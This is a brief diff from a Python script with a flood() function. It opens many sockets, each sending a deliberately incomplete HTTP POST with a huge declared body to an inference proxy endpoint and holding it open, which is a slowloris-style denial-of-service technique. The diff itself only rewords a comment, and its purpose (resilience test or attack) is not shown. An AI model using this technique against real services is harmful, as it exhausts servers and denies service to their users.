@@ -26,7 +26,7 @@ def flood():
                 connection = socket.socket(family, socket.SOCK_STREAM)
                 connection.settimeout(0.2)
                 connection.connect(address)
-                # Half a request: the other side has to wait.
+                # Half a request, so that the other side has to wait.
                 connection.send(b"POST /inference/chat/completions HTTP/1.1\r\nHost: proxy\r\nContent-Length: 1000000\r\n\r\n{")
                 held.append(connection)
             except OSError:
